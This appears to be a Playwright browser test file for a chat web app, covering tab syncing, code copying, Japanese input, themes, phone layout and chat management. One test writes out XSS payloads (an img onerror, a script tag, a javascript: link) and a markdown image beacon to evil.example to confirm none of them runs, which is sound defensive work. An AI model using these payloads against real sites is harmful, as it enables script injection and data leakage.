"""The chat page itself, in a real Chromium: safety, languages, themes, phones, the list of chats."""

import re

import pytest
from playwright.sync_api import expect

from tests.browser.chat import QUICK, Api, Ask, Open, wait_until_done

pytestmark = pytest.mark.browser


def test_other_tabs_follow(open_page: Open, ask: Ask) -> None:
    session_id = ask()
    watcher, writer = open_page(f"/chat/{session_id}/"), open_page(f"/chat/{session_id}/")
    wait_until_done(watcher)

    writer.fill("#text", "Seen everywhere?")
    writer.keyboard.press("Enter")

    expect(watcher.locator(".message.user .text").last).to_have_text("Seen everywhere?")
    expect(watcher.locator(".message.assistant")).to_have_count(2)
    wait_until_done(watcher)


def test_nothing_in_a_conversation_runs(open_page: Open, ask: Ask) -> None:
    hostile = "<img src=x onerror=\"document.title='owned'\"><script>document.title='owned'</script>"
    simulate = QUICK | {"text": f"{hostile}\n\n![x](https://evil.example/?d=1)\n\n[x](javascript:alert(1))"}

    page = open_page(f"/chat/{ask(hostile, simulate=simulate, title=hostile)}/")
    wait_until_done(page)

    expect(page.locator(".message img, .message script, .session img")).to_have_count(0)
    expect(page.locator(".message.user .text")).to_have_text(hostile)
    assert page.title() != "owned"


def test_code_can_be_copied(open_page: Open, ask: Ask) -> None:
    session_id = ask(simulate=QUICK | {"text": "```python\nprint(1 < 2)\n```"})
    page = open_page(f"/chat/{session_id}/", permissions=["clipboard-read", "clipboard-write"])
    wait_until_done(page)

    page.locator(".code-head button").click()

    expect(page.locator(".code-head button")).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == "print(1 < 2)\n"


def test_shift_enter_makes_a_line_and_an_input_methods_enter_sends_nothing(open_page: Open) -> None:
    page = open_page("/chat/", locale="ja-JP")
    compose = "(init) => document.getElementById('text').dispatchEvent(new KeyboardEvent('keydown', init))"

    page.locator("#text").press_sequentially("こんにちは")
    page.evaluate(compose, {"key": "Enter", "isComposing": True, "bubbles": True, "cancelable": True})
    page.evaluate(compose, {"key": "Enter", "keyCode": 229, "bubbles": True, "cancelable": True})
    page.keyboard.press("Shift+Enter")

    expect(page.locator("#text")).to_have_value("こんにちは\n")
    expect(page.locator(".message")).to_have_count(0)


def test_the_page_speaks_japanese(open_page: Open, ask: Ask) -> None:
    page = open_page(f"/chat/{ask('重力波を要約して')}/", locale="ja-JP")
    wait_until_done(page)

    expect(page.locator("html")).to_have_attribute("lang", "ja")
    expect(page.locator("#text")).to_have_attribute("placeholder", "メッセージを入力")
    expect(page.get_by_role("link", name="新しいチャット")).to_be_visible()
    expect(page.get_by_role("button", name="再生成")).to_be_visible()
    expect(page.locator("#used")).to_contain_text("トークン")


def test_dark_follows_the_system_and_the_readers_choice_stays(open_page: Open) -> None:
    page = open_page("/chat/", color_scheme="dark")
    background = "getComputedStyle(document.body).backgroundColor"
    dark = page.evaluate(background)

    page.click("#theme")
    light = page.evaluate(background)
    page.reload()

    assert (dark, light) == ("rgb(21, 24, 29)", "rgb(255, 255, 255)")
    assert page.evaluate(background) == light


def test_a_phone_shows_everything_and_the_list_as_a_drawer(open_page: Open, ask: Ask) -> None:
    text = "| a | b | c |\n|---|---|---|\n" + "| a long cell of words | another long cell | and one more |\n" * 3
    session_id = ask(simulate=QUICK | {"text": text + "\n```\n" + "wide " * 60 + "\n```"}, title="A title " * 10)
    page = open_page(f"/chat/{session_id}/", viewport={"width": 390, "height": 844})
    wait_until_done(page)

    assert page.evaluate("document.documentElement.scrollWidth") == 390
    expect(page.locator("#sidebar")).to_be_hidden()
    page.click("#open-sidebar")
    expect(page.locator("#sidebar")).to_be_visible()
    page.keyboard.press("Escape")
    expect(page.locator("#sidebar")).to_be_hidden()
    expect(page.locator("#send")).to_be_in_viewport()


def test_a_chat_is_renamed_archived_found_and_deleted(open_page: Open, ask: Ask) -> None:
    session_id = ask("zanzibar", title="Before")
    page = open_page(f"/chat/{session_id}/")
    item = page.locator(f'.session[data-id="{session_id}"]')

    item.locator(".more").click()
    page.locator("#menu [data-action=rename]").click()
    page.fill("#new-title", "After")
    page.keyboard.press("Enter")
    expect(page.locator("#title")).to_have_text("After")

    page.fill("#search", "zanzibar")
    expect(page.locator(".session")).to_have_count(1)

    item.locator(".more").click()
    page.locator("#menu [data-action=archive]").click()
    expect(page.locator("#put-away")).to_be_visible()
    expect(page.locator("#composer")).to_be_hidden()
    page.click("#take-out")
    expect(page.locator("#composer")).to_be_visible()

    page.fill("#search", "")
    item.locator(".more").click()
    page.locator("#menu [data-action=delete]").click()
    page.locator("#delete-form button[type=submit]").click()
    expect(item).to_have_count(0)


def test_a_long_conversation_opens_at_its_end_and_older_messages_are_loaded(
    open_page: Open, ask: Ask, api: Api
) -> None:
    session_id = ask("message 0")
    for place in range(1, 30):
        body = {"content": f"message {place}", "simulate": QUICK | {"text": "ok"}}
        api("POST", f"/sessions/{session_id}/messages", body)
    page = open_page(f"/chat/{session_id}/")

    expect(page.locator(".message.user").last).to_have_text(re.compile("message 29"))
    expect(page.locator(".message.user").last).to_be_in_viewport()
    page.click("#older")

    expect(page.locator(".message.user").first).to_have_text(re.compile("message 0"))
    expect(page.locator("#older")).to_be_hidden()
